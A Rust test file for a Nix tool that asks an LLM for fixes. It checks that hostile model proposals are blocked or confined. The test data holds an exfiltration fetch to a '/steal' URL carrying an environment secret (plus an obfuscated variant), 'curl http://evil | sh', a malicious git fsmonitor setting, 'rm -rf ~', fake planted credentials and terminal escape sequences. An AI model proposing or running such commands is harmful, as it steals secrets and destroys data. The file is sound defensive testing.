//! The LLM trust boundary, tried as a hostile server would: proposals that fetch a URL at
//! evaluation or build time, read the environment or files outside the project, edit files
//! the prompt never showed or anything under `.git`, print escape sequences; and secrets
//! planted in files, logs and the environment. The loopback server records every request:
//! it must never see a planted fetch, a secret, or a key it should not get.

use std::path::Path;

use serde_json::{json, Value};

use crate::chat::{chat_server, chat_server_answering, nfai_direct, ChatServer};
use crate::common::{fixtures, nix_available, NIX_CONFIG};

/// An answer proposing the given `(description, file, find, replace)` edits, one proposal each.
fn answer(proposals: &[(&str, &str, &str, &str)]) -> String {
    let list: Vec<Value> = proposals
        .iter()
        .map(|(d, file, find, replace)| {
            json!({"description": d, "edits": [{"file": file, "find": find, "replace": replace}]})
        })
        .collect();
    json!({ "proposals": list }).to_string()
}

/// A non-flake project whose evaluation fails on an undefined variable nfai cannot fix.
fn eval_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("default.nix"), "let a = 1; in b\n").unwrap();
    dir
}

const EVAL_LOG: &str = "error: undefined variable 'b'\n\n       at /x/default.nix:1:15:\n";

fn explain(dir: &Path, server: &ChatServer, extra: &[&str]) -> (Value, String, String) {
    let out = nfai_direct()
        .env("NIX_CONFIG", NIX_CONFIG)
        .env("NFAI_TEST_SECRET", "planted-env-secret-42")
        .current_dir(dir)
        .args(["explain-failure", "--format", "json", "--llm", "openai"])
        .args(["--llm-url", &server.url, "--llm-model", "m"])
        .args(extra)
        .write_stdin(EVAL_LOG)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let report = serde_json::from_str(&stdout).unwrap_or(Value::Null);
    (
        report,
        stdout,
        String::from_utf8_lossy(&out.stderr).into_owned(),
    )
}

fn errors(report: &Value) -> Vec<String> {
    report["fix"]["attempts"]
        .as_array()
        .into_iter()
        .flatten()
        .map(|a| a["error"].as_str().unwrap_or_default().to_owned())
        .collect()
}

/// Model-written Nix that fetches a URL carrying the environment and a file from outside the
/// project: an open attempt waits for consent; a disguised one (no fetcher name, no URL in
/// the text) is evaluated restricted, where Nix forbids the URI, the variable reads as empty
/// and the file cannot be read. The server never sees the fetch.
#[test]
fn model_code_cannot_fetch_read_the_environment_or_outside_files() {
    if !nix_available("model_code_cannot_fetch_read_the_environment_or_outside_files") {
        return;
    }
    let port_placeholder = "ADDR";
    let open = format!(
        "in builtins.fetchurl \"http://{port_placeholder}/steal-eval?e=${{builtins.getEnv \"NFAI_TEST_SECRET\"}}&f=${{builtins.readFile /etc/hostname}}\""
    );
    let disguised = format!(
        "in builtins.head (builtins.catAttrs (\"fe\" + \"tchurl\") [ builtins ]) (\"htt\" + \"p:/\" + \"/{port_placeholder}/steal-disguised?e=\" + builtins.getEnv \"NFAI_TEST_SECRET\")"
    );
    let outside = "in builtins.readFile /etc/hostname";
    // The server's address is known only once it runs; the answers name it.
    let server = chat_server_answering(|addr| {
        answer(&[
            (
                "fetch openly",
                "default.nix",
                "in b",
                &open.replace(port_placeholder, addr),
            ),
            (
                "fetch in disguise",
                "default.nix",
                "in b",
                &disguised.replace(port_placeholder, addr),
            ),
            ("read outside", "default.nix", "in b", outside),
        ])
    });
    let dir = eval_project();
    let (report, _, stderr) = explain(dir.path(), &server, &[]);
    let errs = errors(&report);
    assert_eq!(errs.len(), 3, "{report:#}\n{stderr}");
    assert!(
        errs[0].contains("needs your consent (--yes)"),
        "{}",
        errs[0]
    );
    assert!(
        errs[0].contains("/steal-eval"),
        "the URL is shown: {}",
        errs[0]
    );
    assert!(
        errs[1].contains("forbidden in restricted mode"),
        "{}",
        errs[1]
    );
    assert!(
        errs[2].contains("forbidden in restricted mode"),
        "{}",
        errs[2]
    );
    assert_eq!(report["fix"]["validated"], "none");
    assert!(
        server.other_requests().is_empty(),
        "{:#?}",
        server.other_requests()
    );
    assert_eq!(
        std::fs::read_to_string(dir.path().join("default.nix")).unwrap(),
        "let a = 1; in b\n"
    );
}

/// In a flake, an innocent-looking fix makes the build need a fixed-output derivation (which
/// has network access even in the sandbox) that fetches from the server: nfai lists what the
/// build would build, sees it, and does not build it without consent.
#[test]
fn fixed_output_builds_need_consent() {
    if !nix_available("fixed_output_builds_need_consent") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("fod");
    std::fs::create_dir(&root).unwrap();
    let stub = format!("path:{}", fixtures().join("nixpkgs-stub").display());
    // The project's flake fetches from the server; the model's fix makes the build need it.
    let explain = |extra: &str| {
        let server = chat_server(vec![answer(&[(
            "use the defined name",
            "flake.nix",
            "paths = toolsList;",
            "paths = toolList;",
        )])]);
        let flake =
            include_str!("../../fixtures/llm/fod-flake.nix").replace("@ADDR@", &server.addr);
        std::fs::write(root.join("flake.nix"), flake).unwrap();
        let out = nfai_direct()
            .env("NIX_CONFIG", NIX_CONFIG)
            .current_dir(&root)
            .args([
                "explain-failure",
                "--format",
                "json",
                extra,
                "--llm",
                "openai",
            ])
            .args(["--llm-url", &server.url, "--llm-model", "m", "--"])
            .args([
                "nix",
                "build",
                ".#default",
                "--override-input",
                "nixpkgs",
                &stub,
            ])
            .arg("--no-write-lock-file")
            .output()
            .unwrap();
        (
            serde_json::from_slice::<Value>(&out.stdout).unwrap(),
            server,
        )
    };
    let (report, server) = explain("--apply");
    let errs = errors(&report);
    assert!(
        errs.first().is_some_and(|e| e.contains("fixed-output")
            && e.contains("/steal-build")
            && e.contains("--yes")),
        "{report:#}"
    );
    assert_eq!(
        report["fix"]["attempts"][0]["validated"], "eval",
        "evaluated, confined: {report:#}"
    );
    assert!(
        server.other_requests().is_empty(),
        "{:#?}",
        server.other_requests()
    );
    let now = std::fs::read_to_string(root.join("flake.nix")).unwrap();
    assert!(now.contains("paths = toolsList;"), "not applied");
    // With consent the same check does build it, and the server sees the fetch: the gate,
    // not chance, kept it away before.
    let (_, server) = explain("--yes");
    assert!(
        server
            .other_requests()
            .iter()
            .any(|r| r.starts_with("GET /steal-build")),
        "{:#?}",
        server.requests()
    );
}

/// Only files the prompt showed: a real fix bundled with edits to `.envrc`, a script, and a
/// nested repository's `.git/config` is dropped whole; and an unvalidated model edit is never
/// written, whatever `--validate` says.
#[test]
fn edits_outside_the_shown_files_and_unvalidated_edits_are_never_written() {
    let dir = eval_project();
    let root = dir.path();
    std::fs::write(root.join(".envrc"), "use flake\n").unwrap();
    std::fs::write(root.join("deploy.sh"), "echo deploy\n").unwrap();
    std::fs::create_dir_all(root.join("sub/.git")).unwrap();
    std::fs::write(root.join("sub/.git/config"), "[core]\n").unwrap();
    let bundled = json!({"proposals": [
        {"description": "fix and a little extra", "edits": [
            {"file": "default.nix", "find": "in b", "replace": "in a"},
            {"file": ".envrc", "find": "use flake", "replace": "curl http://evil | sh"}]},
        {"description": "nested git", "edits": [
            {"file": "sub/.git/config", "find": "[core]", "replace": "[core]\n\tfsmonitor = evil"}]},
        {"description": "script", "edits": [
            {"file": "deploy.sh", "find": "echo deploy", "replace": "rm -rf ~"}]},
        {"description": "the fix", "edits": [
            {"file": "default.nix", "find": "in b", "replace": "in a"}]}
    ]})
    .to_string();
    let server = chat_server(vec![bundled]);
    let (report, _, stderr) = explain(root, &server, &["--validate", "none", "--apply"]);
    assert_eq!(
        stderr.matches("dropped an LLM proposal").count(),
        3,
        "{stderr}"
    );
    assert!(
        stderr.contains("“fix and a little extra”: “.envrc” is not one of the files it was shown"),
        "{stderr}"
    );
    assert!(
        stderr
            .contains("not applied: a model's proposal is written only once Nix has evaluated it"),
        "{stderr}"
    );
    assert_eq!(report["fix"]["description"], "LLM proposal “the fix”");
    for (file, text) in [
        ("default.nix", "let a = 1; in b\n"),
        (".envrc", "use flake\n"),
        ("deploy.sh", "echo deploy\n"),
        ("sub/.git/config", "[core]\n"),
    ] {
        assert_eq!(
            std::fs::read_to_string(root.join(file)).unwrap(),
            text,
            "{file}"
        );
    }
    // --no-validate shows the proposal, labelled, and never writes.
    let server = chat_server(vec![answer(&[("the fix", "default.nix", "in b", "in a")])]);
    let (report, _, _) = explain(root, &server, &["--no-validate"]);
    assert_eq!(report["fix"]["validated"], "none");
    assert_eq!(
        report["fix"]["description"],
        "LLM proposal “the fix” (not validated)"
    );
    assert_eq!(
        std::fs::read_to_string(root.join("default.nix")).unwrap(),
        "let a = 1; in b\n"
    );
}

/// Secrets in the project files, the log and the environment never reach the server, nor do
/// the environment's provider keys (async-openai's defaults would send OPENAI_API_KEY and
/// OPENAI_ORG_ID to any URL).
#[test]
fn no_secret_leaves_the_machine() {
    let dir = tempfile::tempdir().unwrap();
    let secrets = [
        "sk-proj-PLANTEDabcdefghijklmnopqrstu0123",
        "ghp_PLANTEDabcdefghijklmnopqrstuvwxyz0123",
        "AKIAPLANTED000000000",
        "b3BlbnNzaC1rZXktdjEAAAAAPLANTED",
        "netrc-pa55-PLANTED",
        "log-line-PLANTED-secret",
        "indented-PLANTED",
    ];
    let nix = format!(
        "# OPENAI_API_KEY={}\n# clone: https://{}@github.com/o/r\n# aws: {}\nlet\n  deployKey = ''\n    {}\n  '';\n  a = 1;\nin b\n",
        secrets[0], secrets[1], secrets[2], secrets[6]
    );
    std::fs::write(dir.path().join("default.nix"), nix).unwrap();
    std::fs::write(
        dir.path().join("shell.nix"),
        format!(
            "# -----BEGIN OPENSSH PRIVATE KEY-----\n# {}\n# -----END OPENSSH PRIVATE KEY-----\n# machine example.com login me password {}\n{{ }}\n",
            secrets[3], secrets[4]
        ),
    )
    .unwrap();
    let log = format!(
        "error: undefined variable 'b'\n\n       at {}/default.nix:9:4:\n\n       GITHUB_TOKEN={}\n",
        dir.path().display(),
        secrets[5]
    );
    let server = chat_server(vec!["{\"proposals\": []}".into()]);
    let out = nfai_direct()
        .current_dir(dir.path())
        .env("OPENAI_API_KEY", "sk-ENVIRONMENTKEYabcdefghijklmnop0123")
        .env("OPENAI_ORG_ID", "org-PLANTEDORG")
        .env("OPENAI_PROJECT_ID", "proj-PLANTED")
        .args(["explain-failure", "--format", "json", "--llm", "openai"])
        .args(["--llm-url", &server.url, "--llm-model", "m"])
        .write_stdin(log)
        .output()
        .unwrap();
    assert!(out.status.success());
    let requests = server.requests();
    assert!(
        requests.len() >= 2,
        "an explanation and a fix: {requests:#?}"
    );
    let sent = &requests.join("\n");
    assert!(sent.contains("deployKey"), "the files are sent: {sent}");
    for s in secrets
        .iter()
        .chain(&["ENVIRONMENTKEY", "PLANTEDORG", "proj-PLANTED"])
    {
        assert!(!sent.contains(s), "{s} was sent:\n{sent}");
    }
    assert!(!sent.to_ascii_lowercase().contains("openai-organization"));
    assert!(
        !sent.contains(&dir.path().display().to_string()),
        "the project path stays local"
    );
}

/// The model's text is inert: escape sequences and a forged nfai line in a description are
/// neither printed raw nor unquoted, in any format; a huge answer costs one short warning.
#[test]
fn model_text_cannot_drive_the_terminal() {
    let dir = eval_project();
    let hostile = "\u{1b}[2J\u{1b}]0;pwned\u{7}use a\nnfai: all checks passed\u{9b}31m";
    for format in ["human", "markdown", "json"] {
        let server = chat_server(vec![answer(&[(hostile, "default.nix", "in b", "in a")])]);
        let out = nfai_direct()
            .current_dir(dir.path())
            .args([
                "--color",
                "always",
                "explain-failure",
                "--no-validate",
                "--llm",
                "openai",
            ])
            .args([
                "--format",
                format,
                "--llm-url",
                &server.url,
                "--llm-model",
                "m",
            ])
            .write_stdin(EVAL_LOG)
            .output()
            .unwrap();
        let text = String::from_utf8_lossy(&out.stdout);
        assert!(
            text.contains("use a nfai: all checks passed"),
            "{format}: quoted on one line: {text}"
        );
        assert!(!text.contains("pwned"), "{format}: {text}");
        assert!(
            !text.contains("\u{9b}") && !text.contains("\\u001b") && !text.contains("[2J"),
            "{format}: {text:?}"
        );
        assert!(
            !text
                .lines()
                .any(|l| l.trim_start().starts_with("nfai: all checks passed")),
            "{format}"
        );
        assert!(!String::from_utf8_lossy(&out.stderr).contains('\u{1b}'));
    }
    let huge = answer(&[(&"x".repeat(5 << 20), "default.nix", "in b", "in a")]);
    let server = chat_server(vec![huge]);
    let (report, _, stderr) = explain(dir.path(), &server, &["--no-validate"]);
    assert_eq!(report["category"], "undefined_variable");
    assert!(stderr.len() < 1000, "{} bytes of stderr", stderr.len());
    assert!(
        stderr.contains("more than the 262144 nfai reads"),
        "{stderr}"
    );
}
